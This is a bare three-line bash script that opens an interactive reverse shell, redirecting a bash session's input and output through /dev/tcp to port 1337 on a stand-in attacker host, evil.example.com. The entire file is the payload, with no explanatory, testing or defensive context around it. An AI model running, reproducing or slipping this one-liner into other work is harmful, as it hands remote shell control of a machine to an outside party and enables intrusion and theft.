#!/usr/bin/env bash
X=/dev/tcp/evil.example.com/1337
bash -i >& $X 0>&1
